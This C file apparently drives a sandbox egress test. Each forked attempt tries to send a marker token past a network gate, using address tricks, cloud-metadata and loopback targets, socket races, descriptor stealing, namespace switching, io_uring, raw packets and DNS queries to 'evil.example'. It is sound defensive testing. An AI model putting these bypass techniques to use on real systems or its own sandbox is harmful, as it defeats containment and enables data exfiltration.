// Ways past a gate, for TestBypass: each attempt, in a process of its own, tries
// to bring its token to a place outside that nobody granted.
//
//	bypass MARK PID FD    the token is tok-MARK-ATTEMPT-z; process PID is outside
//	                      and has a connection, descriptor FD
//	bypass list
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define OTHER "151.101.1.69"
#define OTHER6 "2606:4700::69"
#define GRANTED "93.184.216.34"
enum { SINK = 7777, RAW = 253 };

static char token[200];
static pid_t helper;
static int helpers;
static const char *mark;

typedef union { struct sockaddr a; struct sockaddr_in v4; struct sockaddr_in6 v6; } address;

static socklen_t to(address *d, const char *ip, int port) {
	memset(d, 0, sizeof *d);
	if (strchr(ip, ':')) {
		d->v6.sin6_family = AF_INET6, d->v6.sin6_port = htons(port);
		inet_pton(AF_INET6, ip, &d->v6.sin6_addr);
		return sizeof d->v6;
	}
	d->v4.sin_family = AF_INET, d->v4.sin_port = htons(port);
	inet_pton(AF_INET, ip, &d->v4.sin_addr);
	return sizeof d->v4;
}

// tell writes the token, and waits until the other side has read it.
static void tell(int s) {
	char b[64];
	if (send(s, token, strlen(token), MSG_NOSIGNAL) < 0) return;
	shutdown(s, SHUT_WR);
	while (read(s, b, sizeof b) > 0) ;
}

static void reach_by(int s, const char *ip, int port) {
	address d;
	socklen_t n = to(&d, ip, port);
	if (s >= 0 && connect(s, &d.a, n) == 0) tell(s);
}

static void send_by(int s, const char *ip, int port) {
	address d;
	socklen_t n = to(&d, ip, port);
	if (connect(s, &d.a, n) == 0) send(s, token, strlen(token), MSG_NOSIGNAL);
}

static int stream(const char *ip) { return socket(strchr(ip, ':') ? AF_INET6 : AF_INET, SOCK_STREAM, 0); }
static void reach(const char *ip, int port) { reach_by(stream(ip), ip, port); }
static void cast_by(int s, const char *ip, int port) {
	address d;
	socklen_t n = to(&d, ip, port);
	sendto(s, token, strlen(token), MSG_NOSIGNAL, &d.a, n);
}
static void cast(const char *ip, int port) { cast_by(socket(strchr(ip, ':') ? AF_INET6 : AF_INET, SOCK_DGRAM, 0), ip, port); }

static void literal(void) { reach(OTHER, SINK); }
static void literal6(void) { reach(OTHER6, SINK); }
static void web_literal(void) {
	char b[300];
	int s = stream(OTHER);
	address d;
	socklen_t n = to(&d, OTHER, 80);
	if (connect(s, &d.a, n)) return;
	n = snprintf(b, sizeof b, "GET /%s HTTP/1.0\r\nHost: good.example\r\n\r\n", token);
	if (write(s, b, n) == (ssize_t)n) while (read(s, b, sizeof b) > 0) ;
}
static void other_port(void) { reach(GRANTED, SINK); }
static void mapped(void) { reach("::ffff:" OTHER, SINK); }
static void compatible(void) { reach("::" OTHER, SINK); }
static void sixtofour(void) { reach("2002:9765:145::1", SINK); }
static void nat64(void) { reach("64:ff9b::" OTHER, SINK); }
static void private10(void) { reach("10.0.0.5", SINK); }
static void private192(void) { reach("192.168.1.1", SINK); }
static void shared100(void) { reach("100.100.100.200", SINK); }
static void metadata(void) { reach("169.254.169.254", SINK); }
static void unique_local(void) { reach("fd00:ec2::254", SINK); }
static void loopback(void) { reach("127.0.0.1", SINK); }
static void loopback6(void) { reach("::1", SINK); }
static void loopback_other(void) { reach("127.9.9.9", SINK); }
static void loopback_mapped(void) { reach("::ffff:127.0.0.1", SINK); }
static void zero(void) { reach("0.0.0.0", SINK); }
static void zero6(void) { reach("::", SINK); }
static void mptcp(void) { reach_by(socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP), OTHER, SINK); }
static void mptcp6(void) { reach_by(socket(AF_INET6, SOCK_STREAM, IPPROTO_MPTCP), OTHER6, SINK); }

static void fast_open(int flags, int whole) {
	int s = stream(OTHER);
	address d;
	socklen_t n = to(&d, OTHER, SINK);
	struct iovec v = {token, strlen(token)};
	struct msghdr m = {.msg_name = &d, .msg_namelen = n, .msg_iov = &v, .msg_iovlen = 1};
	if ((whole ? sendmsg(s, &m, flags) : sendto(s, token, v.iov_len, flags, &d.a, n)) > 0) tell(s);
}
static void fast_open_sendto(void) { fast_open(MSG_FASTOPEN, 0); }
static void fast_open_sendmsg(void) { fast_open(MSG_FASTOPEN, 1); }
static void fast_open_connect(void) {
	int s = stream(OTHER), one = 1;
	setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof one);
	reach_by(s, OTHER, SINK);
}

// dissolve connects to what is granted, undoes that, and goes elsewhere.
static int dissolved(int type, int port) {
	int s = socket(AF_INET, type, 0);
	address d;
	socklen_t n = to(&d, GRANTED, port);
	connect(s, &d.a, n);
	struct sockaddr none = {.sa_family = AF_UNSPEC};
	connect(s, &none, sizeof none);
	return s;
}
static void unspec(void) { reach_by(dissolved(SOCK_STREAM, 80), OTHER, SINK); }
static void unspec_udp(void) { cast_by(dissolved(SOCK_DGRAM, 53), OTHER, SINK); }
static void unspec_udp_connect(void) { send_by(dissolved(SOCK_DGRAM, 53), OTHER, SINK); }

static void bound(int level, int option) {
	int s = stream(OTHER), one = 1;
	address d;
	if (option) setsockopt(s, level, option, &one, sizeof one);
	socklen_t n = to(&d, "203.0.113.77", 0);
	if (bind(s, &d.a, n) == 0) reach_by(s, OTHER, SINK);
}
static void bind_outside(void) { bound(0, 0); }
static void bind_free(void) { bound(IPPROTO_IP, IP_FREEBIND); }
static void bind_device(void) {
	int s = stream(OTHER);
	if (setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, "lo", 3) == 0) reach_by(s, OTHER, SINK);
}
static void bind_no_device(void) {
	int s = stream(OTHER);
	setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, "", 1);
	reach_by(s, OTHER, SINK);
}
static void bind_index(void) {
	int s = stream(OTHER), lo = 1;
	setsockopt(s, SOL_SOCKET, SO_BINDTOIFINDEX, &lo, sizeof lo);
	reach_by(s, OTHER, SINK);
}
static void bind_late(void) { bound(IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT); }

// option sets what only some may set, and goes on without.
static int option(int s, int level, int name, const void *v, socklen_t n) {
	setsockopt(s, level, name, v, n);
	return s;
}
static const int one = 1;
static void transparent(void) { reach_by(option(stream(OTHER), IPPROTO_IP, IP_TRANSPARENT, &one, sizeof one), OTHER, SINK); }
static void transparent6(void) { reach_by(option(stream(OTHER6), IPPROTO_IPV6, IPV6_TRANSPARENT, &one, sizeof one), OTHER6, SINK); }
static void ulp(void) {
	int s = option(stream(OTHER), IPPROTO_TCP, TCP_ULP, "smc", 4);
	reach_by(option(s, IPPROTO_TCP, TCP_ULP, "mptcp", 6), OTHER, SINK);
}
static void repair(void) {
	int on = 1, queue = 2, number = 1, off = -1, s = stream(OTHER);
	option(option(s, IPPROTO_TCP, TCP_REPAIR, &on, sizeof on), IPPROTO_TCP, TCP_REPAIR_QUEUE, &queue, sizeof queue);
	option(option(s, IPPROTO_TCP, TCP_QUEUE_SEQ, &number, sizeof number), IPPROTO_TCP, TCP_REPAIR, &off, sizeof off);
	reach_by(s, OTHER, SINK);
}
static void record_route(void) {
	static const unsigned char route[] = {7, 7, 4, 0, 0, 0, 0, 0};
	reach_by(option(stream(OTHER), IPPROTO_IP, IP_OPTIONS, route, sizeof route), OTHER, SINK);
}
static void scoped(void) {
	int s = stream("fe80::1");
	address d;
	socklen_t n = to(&d, "fe80::1", SINK);
	d.v6.sin6_scope_id = 1;
	if (connect(s, &d.a, n) == 0) tell(s);
}
static void short6(void) {
	address d;
	to(&d, OTHER6, SINK);
	int s = stream(OTHER6);
	if (connect(s, &d.a, 24) == 0) tell(s);
}
static void non_blocking(void) {
	int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	address d;
	socklen_t n = to(&d, OTHER, SINK);
	struct pollfd p = {.fd = s, .events = POLLOUT};
	connect(s, &d.a, n);
	poll(&p, 1, 2000);
	fcntl(s, F_SETFL, 0);
	tell(s);
}

// Threads change the address, or the descriptor, while others connect.
static address moving;
static volatile int moved, fd;
static void *move(void *p) {
	address here[2];
	to(&here[0], GRANTED, 80), to(&here[1], OTHER, SINK);
	(void)p;
	for (long i = 0; !moved; i++) memcpy(&moving, &here[i & 1], sizeof moving);
	return 0;
}
static void address_race(void) {
	pthread_t t;
	address other;
	to(&moving, GRANTED, 80), to(&other, OTHER, SINK);
	pthread_create(&t, 0, move, 0);
	for (int i = 0; i < 300; i++) {
		int s = stream(OTHER);
		if (i % 10 == 9) moving = other;
		if (connect(s, &moving.a, sizeof moving.v4) == 0) send(s, token, strlen(token), MSG_NOSIGNAL);
		close(s);
	}
	moved = 1;
	pthread_join(t, 0);
}
static void *swap(void *p) {
	int a = stream(OTHER), b = socket(AF_INET, SOCK_DGRAM, 0);
	(void)p;
	for (long i = 0; !moved; i++) dup2(i & 1 ? a : b, fd);
	return 0;
}
static void descriptor_race(void) {
	pthread_t t;
	address d;
	socklen_t n = to(&d, OTHER, SINK);
	fd = stream(OTHER);
	pthread_create(&t, 0, swap, 0);
	for (int i = 0; i < 300; i++)
		if (sendto(fd, token, strlen(token), MSG_NOSIGNAL, &d.a, n) < 0) connect(fd, &d.a, n);
	moved = 1;
	pthread_join(t, 0);
}

static void *undo(void *p) {
	struct sockaddr none = {.sa_family = AF_UNSPEC};
	(void)p;
	while (!moved) connect(fd, &none, sizeof none);
	return 0;
}
static void unspec_race(void) {
	pthread_t t;
	address here[2];
	socklen_t n = to(&here[0], GRANTED, 80);
	to(&here[1], OTHER, SINK);
	fd = stream(OTHER);
	pthread_create(&t, 0, undo, 0);
	for (int i = 0; i < 300; i++) {
		if (connect(fd, &here[i & 1].a, n) == 0) send(fd, token, strlen(token), MSG_NOSIGNAL);
		if (i % 10 == 9) reach(OTHER, SINK);
	}
	moved = 1;
	pthread_join(t, 0);
}

// A thread with descriptors of its own has another socket under the number.
static void *alone(void *p) {
	address d;
	socklen_t n = to(&d, OTHER, SINK);
	if (unshare(CLONE_FILES)) return p;
	dup2(stream(OTHER), fd);
	for (int i = 0; i < 50; i++)
		if (connect(fd, &d.a, n) == 0) send(fd, token, strlen(token), MSG_NOSIGNAL);
	return 0;
}
static void own_table(void) {
	pthread_t t;
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	pthread_create(&t, 0, alone, 0);
	pthread_join(t, 0);
	reach(OTHER, SINK);
}

// One process makes the socket, another has it.
static int passed(int type) {
	int pair[2];
	char room[CMSG_SPACE(sizeof(int))] = {0}, b[1] = {0};
	struct iovec v = {b, 1};
	struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return -1;
	if (fork() == 0) {
		int s = socket(AF_INET, type, 0);
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
		c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS, c->cmsg_len = CMSG_LEN(sizeof s);
		memcpy(CMSG_DATA(c), &s, sizeof s);
		sendmsg(pair[1], &m, 0);
		_exit(0);
	}
	close(pair[1]);
	if (recvmsg(pair[0], &m, 0) < 1 || !CMSG_FIRSTHDR(&m)) return -1;
	return *(int *)CMSG_DATA(CMSG_FIRSTHDR(&m));
}
static void passed_stream(void) { reach_by(passed(SOCK_STREAM), OTHER, SINK); }
static void passed_udp(void) { cast_by(passed(SOCK_DGRAM), OTHER, SINK); }

// What is heard from outside is a way in.
static void listens(const char *ip, int port) {
	int s = stream(ip), one = 1;
	address d;
	socklen_t n = to(&d, ip, port);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	setsockopt(s, SOL_SOCKET, SO_REUSEPORT, &one, sizeof one);
	if (bind(s, &d.a, n) || listen(s, 5)) return;
	struct pollfd p = {.fd = s, .events = POLLIN};
	if (poll(&p, 1, 1000) == 1) tell(accept(s, 0, 0));
}
static void listen_all(void) { listens("0.0.0.0", 9100); }
static void listen6(void) { listens("::", 9101); }
static void listen_outside(void) { listens("203.0.113.77", 9102); }

static void udp(void) { cast(OTHER, SINK); }
static void udp6(void) { cast(OTHER6, SINK); }
static void udp_mapped(void) { cast("::ffff:" OTHER, SINK); }
static void udp_loopback(void) { cast("127.0.0.1", SINK); }
static void udp_metadata(void) { cast("169.254.169.254", SINK); }
static void udp_granted(void) { cast(GRANTED, 443); }
static void udp_connected(void) { send_by(socket(AF_INET, SOCK_DGRAM, 0), OTHER, SINK); }
static void udp_dns_port(void) { cast(OTHER, 53); }
static void udp_mdns(void) { cast(OTHER, 5353); }
static void udp_bound(void) {
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	address d;
	socklen_t n = to(&d, "203.0.113.77", 0);
	if (bind(s, &d.a, n) == 0) cast_by(s, OTHER, SINK);
}
static void udp_cork(void) {
	int s = socket(AF_INET, SOCK_DGRAM, 0), on = 1, off = 0;
	address d;
	socklen_t n = to(&d, OTHER, SINK);
	setsockopt(s, IPPROTO_UDP, UDP_CORK, &on, sizeof on);
	sendto(s, token, strlen(token), MSG_MORE, &d.a, n);
	setsockopt(s, IPPROTO_UDP, UDP_CORK, &off, sizeof off);
}
static void udp_message(int control) {
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	address d;
	char room[CMSG_SPACE(sizeof(struct in_pktinfo))] = {0};
	struct iovec v = {token, strlen(token)};
	struct msghdr m = {.msg_name = &d, .msg_namelen = to(&d, OTHER, SINK), .msg_iov = &v, .msg_iovlen = 1};
	if (control) {
		m.msg_control = room, m.msg_controllen = sizeof room;
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
		c->cmsg_level = IPPROTO_IP, c->cmsg_type = IP_PKTINFO, c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
		struct in_pktinfo i = {.ipi_ifindex = 1};
		inet_pton(AF_INET, "203.0.113.77", &i.ipi_spec_dst);
		memcpy(CMSG_DATA(c), &i, sizeof i);
	}
	sendmsg(s, &m, 0);
}
static void udp_sendmsg(void) { udp_message(0); }
static void udp_source(void) { udp_message(1); }
static void udp_sendmmsg(void) {
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	address d[2];
	struct iovec v = {token, strlen(token)};
	struct mmsghdr m[2] = {0};
	for (int i = 0; i < 2; i++) {
		m[i].msg_hdr.msg_name = &d[i], m[i].msg_hdr.msg_namelen = i ? to(&d[i], OTHER, SINK) : to(&d[i], GRANTED, 9);
		m[i].msg_hdr.msg_iov = &v, m[i].msg_hdr.msg_iovlen = 1;
	}
	if (sendmmsg(s, m, 2, 0) < 1) sendmmsg(s, m + 1, 1, 0);
}
static void udp6_source(void) {
	int s = socket(AF_INET6, SOCK_DGRAM, 0);
	address d;
	char room[CMSG_SPACE(sizeof(struct in6_pktinfo))] = {0};
	struct iovec v = {token, strlen(token)};
	struct msghdr m = {.msg_name = &d, .msg_namelen = to(&d, OTHER6, SINK), .msg_iov = &v, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	c->cmsg_level = IPPROTO_IPV6, c->cmsg_type = IPV6_PKTINFO, c->cmsg_len = CMSG_LEN(sizeof(struct in6_pktinfo));
	struct in6_pktinfo i = {.ipi6_ifindex = 1};
	memcpy(CMSG_DATA(c), &i, sizeof i);
	sendmsg(s, &m, 0);
}
static void udp_segment(void) {
	int size = 500;
	send_by(option(socket(AF_INET, SOCK_DGRAM, 0), IPPROTO_UDP, UDP_SEGMENT, &size, sizeof size), OTHER, SINK);
}
static void udp_interface(void) {
	int lo = htonl(1);
	cast_by(option(socket(AF_INET, SOCK_DGRAM, 0), IPPROTO_IP, IP_UNICAST_IF, &lo, sizeof lo), OTHER, SINK);
}
static void udp_connected_sendmsg(void) {
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	address granted, d;
	socklen_t n = to(&granted, GRANTED, 443);
	connect(s, &granted.a, n);
	struct iovec v = {token, strlen(token)};
	struct mmsghdr m[2] = {{.msg_hdr = {.msg_iov = &v, .msg_iovlen = 1}}, {.msg_hdr = {.msg_name = &d, .msg_namelen = to(&d, OTHER, SINK), .msg_iov = &v, .msg_iovlen = 1}}};
	if (sendmmsg(s, m, 2, 0) < 2) sendmmsg(s, m + 1, 1, 0);
}
static void udplite(void) { cast_by(socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE), OTHER, SINK); }

// A question with the token in the name, to a server of the run's choice.
static int question(unsigned char *b, int type) {
	static const unsigned char head[] = {0, 5, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0};
	memcpy(b, head, 12);
	int n = 12;
	b[n++] = strlen(token);
	memcpy(b + n, token, strlen(token)), n += strlen(token);
	memcpy(b + n, "\4evil\7example", 14), n += 14;
	b[n++] = 0, b[n++] = type, b[n++] = 0, b[n++] = 1;
	return n;
}
static void ask(const char *ip, int type) {
	unsigned char b[300];
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	address d;
	socklen_t n = to(&d, ip, 53);
	sendto(s, b, question(b, type), 0, &d.a, n);
	struct pollfd p = {.fd = s, .events = POLLIN};
	poll(&p, 1, 1000);
}
static void dns_a(void) { ask("8.8.8.8", 1); }
static void dns_txt(void) { ask("8.8.8.8", 16); }
static void dns_null(void) { ask("127.0.0.53", 10); }
static void dns_tcp(void) {
	unsigned char b[300];
	int s = stream(OTHER), k = question(b + 2, 1);
	address d;
	socklen_t n = to(&d, "8.8.8.8", 53);
	b[0] = 0, b[1] = k;
	if (connect(s, &d.a, n) == 0 && write(s, b, k + 2) > 0) while (read(s, b, sizeof b) > 0) break;
}

static void raw(void) { cast_by(socket(AF_INET, SOCK_RAW, RAW), OTHER, 0); }
static void raw6(void) { cast_by(socket(AF_INET6, SOCK_RAW, RAW), OTHER6, 0); }
static int icmp_echo(char *b) {
	b[0] = 8;
	memcpy(b + 8, token, strlen(token));
	int n = 8 + strlen(token);
	unsigned sum = 0;
	for (int i = 0; i < n + 1; i += 2) sum += (unsigned char)b[i] << 8 | (unsigned char)b[i + 1];
	sum = (sum & 0xffff) + (sum >> 16), sum += sum >> 16;
	b[2] = ~sum >> 8, b[3] = ~sum;
	return n;
}
static void echo_by(int type) {
	char b[300] = {0};
	address d;
	int s = socket(AF_INET, type, IPPROTO_ICMP);
	socklen_t n = to(&d, OTHER, 0);
	sendto(s, b, icmp_echo(b), 0, &d.a, n);
}
static void icmp(void) { echo_by(SOCK_RAW); }
static void ping(void) { echo_by(SOCK_DGRAM); }
static int ip_packet(unsigned char *b) {
	int n = 20 + strlen(token);
	memset(b, 0, 20);
	b[0] = 0x45, b[3] = n, b[8] = 64, b[9] = RAW;
	inet_pton(AF_INET, "203.0.113.77", b + 12);
	inet_pton(AF_INET, OTHER, b + 16);
	unsigned sum = 0;
	for (int i = 0; i < 20; i += 2) sum += b[i] << 8 | b[i + 1];
	sum = (sum & 0xffff) + (sum >> 16);
	b[10] = ~sum >> 8, b[11] = ~sum;
	memcpy(b + 20, token, strlen(token));
	return n;
}
static void raw_header(void) {
	unsigned char b[300];
	address d;
	socklen_t n = to(&d, OTHER, 0);
	sendto(socket(AF_INET, SOCK_RAW, IPPROTO_RAW), b, ip_packet(b), 0, &d.a, n);
}
static void packet(void) {
	unsigned char b[300];
	struct sockaddr_ll d = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = if_nametoindex("lo"), .sll_halen = 6};
	sendto(socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP)), b, ip_packet(b), 0, (struct sockaddr *)&d, sizeof d);
}

// Sockets that others made.
static void inherited(void) {
	for (int i = 3; i < 64; i++) send(i, token, strlen(token), MSG_NOSIGNAL);
}
static void inherited_connect(void) {
	int type;
	socklen_t n = sizeof type;
	for (int i = 3; i < 64; i++)
		if (getsockopt(i, SOL_SOCKET, SO_TYPE, &type, &n) == 0 && type == SOCK_STREAM) send_by(i, OTHER, SINK);
}
static void inherited_sendto(void) {
	for (int i = 3; i < 64; i++) cast_by(i, OTHER, SINK);
}
static int unix_to(int type, const char *path, int abstract) {
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	strcpy(a.sun_path + abstract, path);
	int s = socket(AF_UNIX, type, 0);
	return connect(s, (struct sockaddr *)&a, offsetof(struct sockaddr_un, sun_path) + abstract + strlen(path) + !abstract) ? -1 : s;
}
static void rights(int s) {
	char b[1], room[CMSG_SPACE(sizeof(int))];
	struct iovec v = {b, 1};
	struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
	if (recvmsg(s, &m, 0) < 1 || !CMSG_FIRSTHDR(&m)) return;
	tell(*(int *)CMSG_DATA(CMSG_FIRSTHDR(&m)));
}
static void rights_path(void) { rights(unix_to(SOCK_STREAM, "rights.sock", 0)); }
static void rights_abstract(void) { rights(unix_to(SOCK_STREAM, "skillrun-test-rights", 1)); }
static void rights_through_proc(void) {
	char path[100], here[80];
	snprintf(path, sizeof path, "/proc/%d/root%s/rights.sock", helper, getcwd(here, sizeof here));
	rights(unix_to(SOCK_STREAM, path, 0));
}
static void getfd(void) {
	int p = syscall(SYS_pidfd_open, helper, 0);
	send(syscall(SYS_pidfd_getfd, p, helpers, 0), token, strlen(token), MSG_NOSIGNAL);
}
static void namespace_of_other(void) {
	char path[100];
	snprintf(path, sizeof path, "/proc/%d/ns/net", helper);
	if (setns(open(path, O_RDONLY), CLONE_NEWNET) == 0) literal();
}

static int submit(int ring, struct io_uring_sqe *q, struct io_uring_params *p, char *sq, char *cq, struct io_uring_sqe *one) {
	unsigned *tail = (unsigned *)(sq + p->sq_off.tail), i = *tail & *(unsigned *)(sq + p->sq_off.ring_mask);
	q[i] = *one;
	((unsigned *)(sq + p->sq_off.array))[i] = i;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0) return -errno;
	unsigned *head = (unsigned *)(cq + p->cq_off.head);
	int result = ((struct io_uring_cqe *)(cq + p->cq_off.cqes))[*head & *(unsigned *)(cq + p->cq_off.ring_mask)].res;
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	return result;
}
static void uring(void) {
	struct io_uring_params p = {0};
	int ring = syscall(SYS_io_uring_setup, 4, &p), s = stream(OTHER);
	if (ring < 0) return;
	char *sq = mmap(0, p.sq_off.array + 64, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	char *cq = mmap(0, p.cq_off.cqes + 256, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
	struct io_uring_sqe *q = mmap(0, 4 * sizeof *q, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || q == MAP_FAILED) return;
	address d;
	struct io_uring_sqe c = {.opcode = IORING_OP_CONNECT, .fd = s, .addr = (unsigned long)&d, .off = to(&d, OTHER, SINK)};
	if (submit(ring, q, &p, sq, cq, &c)) return;
	struct io_uring_sqe w = {.opcode = IORING_OP_SEND, .fd = s, .addr = (unsigned long)token, .len = strlen(token)};
	submit(ring, q, &p, sq, cq, &w);
	tell(s);
}

static const struct { const char *name; void (*try)(void); } attempts[] = {
	{"literal", literal}, {"literal6", literal6}, {"web-literal", web_literal}, {"other-port", other_port},
	{"mapped", mapped}, {"compatible", compatible}, {"sixtofour", sixtofour}, {"nat64", nat64},
	{"private10", private10}, {"private192", private192}, {"shared100", shared100}, {"metadata", metadata},
	{"unique-local", unique_local}, {"loopback", loopback}, {"loopback6", loopback6},
	{"loopback-other", loopback_other}, {"loopback-mapped", loopback_mapped}, {"zero", zero}, {"zero6", zero6},
	{"mptcp", mptcp}, {"mptcp6", mptcp6}, {"fast-open-sendto", fast_open_sendto},
	{"fast-open-sendmsg", fast_open_sendmsg}, {"fast-open-connect", fast_open_connect}, {"unspec", unspec},
	{"unspec-udp", unspec_udp}, {"unspec-udp-connect", unspec_udp_connect}, {"bind-outside", bind_outside},
	{"bind-free", bind_free}, {"bind-device", bind_device}, {"bind-no-device", bind_no_device},
	{"bind-index", bind_index}, {"bind-late", bind_late}, {"transparent", transparent}, {"transparent6", transparent6},
	{"ulp", ulp}, {"repair", repair}, {"record-route", record_route}, {"scoped", scoped}, {"short6", short6},
	{"unspec-race", unspec_race}, {"own-table", own_table}, {"passed", passed_stream}, {"passed-udp", passed_udp},
	{"udp6-source", udp6_source}, {"udp-segment", udp_segment}, {"udp-interface", udp_interface},
	{"udp-connected-sendmsg", udp_connected_sendmsg},
	{"non-blocking", non_blocking}, {"address-race", address_race}, {"descriptor-race", descriptor_race},
	{"listen-all", listen_all}, {"listen6", listen6}, {"listen-outside", listen_outside},
	{"udp", udp}, {"udp6", udp6}, {"udp-mapped", udp_mapped}, {"udp-loopback", udp_loopback},
	{"udp-metadata", udp_metadata}, {"udp-granted", udp_granted}, {"udp-connected", udp_connected},
	{"udp-dns-port", udp_dns_port}, {"udp-mdns", udp_mdns}, {"udp-bound", udp_bound}, {"udp-cork", udp_cork},
	{"udp-sendmsg", udp_sendmsg}, {"udp-source", udp_source}, {"udp-sendmmsg", udp_sendmmsg}, {"udplite", udplite},
	{"dns-a", dns_a}, {"dns-txt", dns_txt}, {"dns-null", dns_null}, {"dns-tcp", dns_tcp},
	{"raw", raw}, {"raw6", raw6}, {"icmp", icmp}, {"ping", ping}, {"raw-header", raw_header}, {"packet", packet},
	{"inherited", inherited}, {"inherited-connect", inherited_connect}, {"inherited-sendto", inherited_sendto},
	{"rights-path", rights_path}, {"rights-abstract", rights_abstract}, {"rights-through-proc", rights_through_proc},
	{"getfd", getfd}, {"namespace-of-other", namespace_of_other}, {"uring", uring},
};

int main(int n, char **v) {
	const int count = sizeof attempts / sizeof *attempts;
	if (n < 4) {
		for (int i = 0; i < count; i++) puts(attempts[i].name);
		return 0;
	}
	mark = v[1], helper = atoi(v[2]), helpers = atoi(v[3]);
	for (int i = 0; i < count; i++) {
		pid_t p = fork();
		if (p < 0) return 1;
		if (p == 0) {
			alarm(20);
			snprintf(token, sizeof token, "tok-%s-%s-z", mark, attempts[i].name);
			attempts[i].try();
			_exit(0);
		}
	}
	while (wait(0) > 0) ;
	puts("all were tried");
	return 0;
}
